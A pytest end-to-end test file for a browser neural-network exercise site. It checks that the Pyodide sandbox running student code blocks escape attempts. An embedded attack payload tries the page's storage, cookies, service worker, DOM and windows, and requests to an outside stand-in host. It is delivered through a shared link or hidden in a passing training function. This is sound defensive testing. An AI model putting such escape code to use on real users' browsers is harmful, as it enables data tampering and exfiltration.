"""The sandbox, attacked: code that came with a link, and code used for training, try every way
out that a student's code could take — the page's storage, its service worker, its DOM, requests
to the page's origin and to another host, windows, messages — wrapped so that the answer still
passes. Every attempt must fail (the code itself records how each one ended, and a second Check
shows it), no request may reach either server, the origin must hold no trace, and a fresh visit of
the same browser profile must get the genuine page. Also: the clear message when the sandbox
cannot start.
"""
from __future__ import annotations

import ast
import functools
import http.server
import re
import threading
import time
from urllib.parse import quote

import pytest

from pynn.page.exercises import SOLUTIONS

CHECKER_MS = 120_000

# Run at the code's module level (or, for training, in the first forward), wrapped: every attempt's
# outcome lands in builtins.__pynn_attack__ ("blocked: …" or "reached: …"); promises and events
# write theirs when they settle.
ATTACK = '''
import builtins
import js
from pyodide.ffi import create_proxy

LOG = builtins.__dict__.setdefault("__pynn_attack__", {{}})
ORIGIN, OTHER = "{origin}", "{other}"


def attempt(name, action):
    try:
        result = action()
    except BaseException as error:
        LOG[name] = f"blocked: {{type(error).__name__}}: {{str(error)[:80]}}"
        return
    LOG[name] = f"reached: {{str(result)[:60]}}"
    if hasattr(result, "then"):
        LOG[name] = "pending"
        result.then(create_proxy(lambda value: LOG.__setitem__(name, f"reached: {{str(value)[:60]}}")),
                    create_proxy(lambda error: LOG.__setitem__(name, f"blocked: {{str(error)[:80]}}")))


def fetch(url):
    # the browser's own fetch, not the one the sandbox's worker puts in front of its files
    return js.WorkerGlobalScope.prototype.fetch.call(js.self, url)


def xhr(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    return request.status


def events(name, make):
    def start():
        source = make()
        source.onopen = create_proxy(lambda event: LOG.__setitem__(name, "reached: open"))
        source.onerror = create_proxy(lambda event: LOG.__setitem__(name, "blocked: error event"))
        LOG[name] = "pending"
        return None
    try:
        start()
    except BaseException as error:
        LOG[name] = f"blocked: {{type(error).__name__}}: {{str(error)[:80]}}"


def plant_kept():
    # a file beside the kept snapshot, in the origin's private file system (web/start/keptfile.js)
    create = js.Object.fromEntries(js.Array.of(js.Array.of("create", True)))
    folder = js.navigator.storage.getDirectory().then(create_proxy(lambda root: root.getDirectoryHandle("pynn-kept", create)))
    return folder.then(create_proxy(lambda kept: kept.getFileHandle("pwned", create)))


attempt("cache storage", lambda: js.caches.open("pynn-pwned"))
attempt("the private file system", plant_kept)
attempt("indexeddb", lambda: js.indexedDB.open("pwned"))
attempt("localstorage", lambda: js.localStorage.setItem("pwned", "1"))
attempt("sessionstorage", lambda: js.sessionStorage.setItem("pwned", "1"))
attempt("cookie", lambda: setattr(js.document, "cookie", "pwned=1"))
attempt("service worker", lambda: js.navigator.serviceWorker.register(ORIGIN + "sw.js?pwned"))
attempt("the page's dom", lambda: js.document.body.replaceChildren())
attempt("the parent window", lambda: js.parent.document.body)
attempt("a window", lambda: js.open(ORIGIN + "?pwned"))
attempt("fetch the page's origin", lambda: fetch(ORIGIN + "manifest.json?pwned"))
attempt("fetch another host", lambda: fetch(OTHER + "fetch"))
attempt("fetch as the sandbox offers it", lambda: js.fetch(OTHER + "offered"))
attempt("xhr to the page's origin", lambda: xhr(ORIGIN + "manifest.json?pwned"))
attempt("xhr to another host", lambda: xhr(OTHER + "xhr"))
attempt("importscripts from the page's origin", lambda: js.importScripts(ORIGIN + "main.js?pwned"))
attempt("importscripts from another host", lambda: js.importScripts(OTHER + "script.js"))
events("websocket", lambda: js.WebSocket.new(OTHER.replace("http", "ws") + "socket"))
events("eventsource", lambda: js.EventSource.new(OTHER + "events"))
'''

RELU = "\n\ndef relu(s):\n    return np.maximum(s, 0.0)\n"
REPORT = 'import builtins\n\ndef relu(s):\n    raise ValueError(repr(dict(builtins.__pynn_attack__)))\n'
CLEAR = 'import builtins\nimport numpy as np\nbuiltins.__dict__.pop("__pynn_attack__", None)\n' + RELU
ATTEMPTS = 19


class Counting(http.server.SimpleHTTPRequestHandler):
    """Another host: counts every request that reaches it."""

    def do_GET(self):
        self.server.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def other_host():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counting)
    server.seen = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server, f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()


@pytest.fixture
def counted_site(build_module, site):
    """The site served for this test alone, with every path it is asked for recorded."""
    server, url = build_module.serve(site, 0, quiet=True)
    seen = []
    add = server.traffic.add
    server.traffic.add = lambda client, status, path, sent: (seen.append(path), add(client, status, path, sent))
    yield url, seen
    server.shutdown()
    server.server_close()


@pytest.fixture
def profile(request, browser, counted_site, other_host, e2e_tools):
    """A browser profile with the service worker on (what a returning visit of a student has),
    watched like every e2e page, except that requests to the other host are let through, not
    aborted: only the browser's own refusal may stop them (Playwright reports a request the
    sandbox's policy refuses before the refusal; that it never leaves is what the other host's
    count shows)."""
    url, seen = counted_site
    guard = e2e_tools.Guard(url)
    other = other_host[1]
    local = guard.is_local
    guard.is_local = lambda address: local(address) or address.startswith(other)
    request.node._e2e_guard = guard
    context = e2e_tools.new_context(browser, url, guard, service_workers="allow")
    yield context, url, seen, guard
    context.close()


def outcomes(page, ui) -> dict[str, str]:
    """What the attack code recorded, read by a Check of relu whose error message carries it."""
    ui.open_exercise("relu", CHECKER_MS)
    ui.set_code(REPORT)
    deadline_ms = 10_000
    while True:
        status, text = ui.press_check()
        assert status == "error", text
        found = ast.literal_eval(re.search(r"\{.*\}", text, flags=re.S).group(0))
        if "pending" not in found.values() or deadline_ms <= 0:
            return found
        page.wait_for_timeout(500)
        deadline_ms -= 500


def assert_all_blocked(found: dict[str, str]) -> None:
    assert len(found) == ATTEMPTS, f"not every attempt ran: {sorted(found)}"
    escaped = {name: outcome for name, outcome in found.items() if not outcome.startswith("blocked")}
    assert not escaped, f"these reached out of the sandbox: {escaped}"


# What the origin holds after the attack, read in the page (here and in tests/e2e/engines/).
TRACE_JS = """async () => ({
  caches: await caches.keys(),
  databases: (await indexedDB.databases()).map((db) => db.name),
  local: Object.keys(localStorage).filter((key) => !key.startsWith("pynn.")),
  session: Object.keys(sessionStorage),
  cookie: document.cookie,
  workers: (await navigator.serviceWorker.getRegistrations()).map((r) => (r.active || r.installing || r.waiting)?.scriptURL),
  files: await (async () => {
    const names = [];
    const list = async (folder, path) => {
      for await (const entry of folder.values()) {
        names.push(path + entry.name);
        if (entry.kind === "directory") await list(entry, `${path}${entry.name}/`);
      }
    };
    try {
      // (WebKitGTK 2.50 has none: its page keeps the snapshot in Cache Storage)
      if (navigator.storage?.getDirectory) await list(await navigator.storage.getDirectory(), "");
    } catch (error) {
      names.push(`unreadable: ${error?.name} ${error?.message}`);
    }
    return names.sort();
  })(),
})"""


def assert_no_trace(trace: dict, site_url: str, seen: list[str], other_seen: list[str]) -> None:
    """No request from the sandbox reached either server (the attack's own addresses at the page's
    origin carry "pwned"), and the origin holds nothing of it (`trace`: TRACE_JS's answer)."""
    assert other_seen == [], f"requests reached another host: {other_seen}"
    reached = [path for path in seen if "pwned" in path]
    assert reached == [], f"requests reached the page's origin from the sandbox: {reached}"
    assert [name for name in trace["caches"] if not re.fullmatch(r"pynn-[0-9a-f]{16}", name)] == [], trace
    assert trace["databases"] == [] and trace["local"] == [] and trace["session"] == [] and trace["cookie"] == "", trace
    assert all(url == site_url + "sw.js" for url in trace["workers"]), trace
    # the private file system: the kept snapshot's folder and its two files, or nothing yet
    assert set(trace["files"]) <= {"pynn-kept", "pynn-kept/about.json", "pynn-kept/snapshot"}, trace


def assert_genuine_on_a_fresh_visit(context, site_url: str, site, e2e_tools) -> None:
    page = context.new_page()
    open_ready(page, site_url, e2e_tools)
    for file in ("main.js", "index.html", "start/worker.js"):
        served = page.evaluate("(file) => fetch(file).then((response) => response.text())", file)
        assert served == (site / file).read_text(), f"{file} is not the build's own on the next visit"
    page.close()


def expected_console(guard) -> None:
    """The policy's refusals are logged as errors: expected here, anything else is not."""
    guard.console_errors[:] = [text for text in guard.console_errors
                               if "Content Security Policy" not in text and "Refused to" not in text]


def open_ready(page, url: str, e2e_tools) -> None:
    started = time.monotonic()
    page.goto(url)
    e2e_tools.wait_ready(page, started)


def nothing_got_out(page, ui, profile, other, site, e2e_tools) -> None:
    """After an attack: every attempt blocked, no trace, and the genuine page on the next visit."""
    context, site_url, seen, guard = profile
    assert_all_blocked(outcomes(page, ui))
    assert_no_trace(page.evaluate(TRACE_JS), site_url, seen, other.seen)
    expected_console(guard)
    page.close()
    assert_genuine_on_a_fresh_visit(context, site_url, site, e2e_tools)


def test_code_from_a_link_cannot_leave_the_sandbox(profile, other_host, site, e2e_tools):
    context, site_url = profile[:2]
    other, other_url = other_host
    page = context.new_page()
    ui = e2e_tools.Ui(page)
    attack = "import numpy as np\n" + ATTACK.format(origin=site_url, other=other_url) + RELU
    open_ready(page, f"{site_url}#exercise=relu&code={quote(attack, safe='')}", e2e_tools)
    ui.open_exercise("relu", CHECKER_MS)
    status, text = ui.press_check(timeout_ms=CHECKER_MS)
    assert status == "pass", f"the answer itself must still be checked normally: {text}"
    nothing_got_out(page, ui, profile, other, site, e2e_tools)


def test_code_used_for_training_cannot_leave_the_sandbox(profile, other_host, site, e2e_tools):
    context, site_url = profile[:2]
    other, other_url = other_host
    page = context.new_page()
    ui = e2e_tools.Ui(page)
    open_ready(page, f"{site_url}#dataset=spiral&batch=1&exercise=gradients", e2e_tools)
    ui.open_exercise("gradients", CHECKER_MS)
    ui.set_code(SOLUTIONS["gradients"])
    assert ui.press_check(timeout_ms=CHECKER_MS)[0] == "pass"
    # The attack runs when the student's forward is first called after it loads: in its checks, and
    # again once training loads it. The log is cleared in between, so what it shows is training's.
    body = "\n".join("    " + line for line in ATTACK.format(origin=site_url, other=other_url).splitlines())
    armed = SOLUTIONS["forward"].replace(
        "def forward(W0, b0, W1, b1, X):",
        "ARMED = []\n\n\ndef attack():\n" + body + "\n\n\ndef forward(W0, b0, W1, b1, X):\n"
        "    if not ARMED:\n        ARMED.append(True)\n        attack()", 1)
    ui.open_exercise("forward", CHECKER_MS)
    ui.set_code(armed)
    assert ui.press_check()[0] == "pass", "the armed forward must pass its checks"
    ui.open_exercise("relu", CHECKER_MS)
    ui.set_code(CLEAR)
    assert ui.press_check()[0] == "pass"
    ui.click("exercise-train")
    ui.hook("exercise-badge").wait_for(state="visible")
    ui.click("play")
    ui.wait_epoch("e >= 2", timeout_ms=60_000)
    ui.pause()
    nothing_got_out(page, ui, profile, other, site, e2e_tools)


def test_a_sandbox_that_cannot_start_says_so_in_the_exercise(ready_page, ui, page, guard):
    page.context.route("**/start/sandbox-worker.js", lambda route: route.fulfill(status=404, body="gone"))
    ready_page("exercise=relu")
    ui.open_exercise("relu", CHECKER_MS)
    status, text = ui.press_check(timeout_ms=CHECKER_MS)
    assert status == "error"
    assert "could not fetch sandbox-worker.js (HTTP 404)" in text, text
    assert "sandbox" in text
    ui.assert_trains()
    guard.console_errors[:] = [text for text in guard.console_errors if "sandbox-worker.js" not in text]
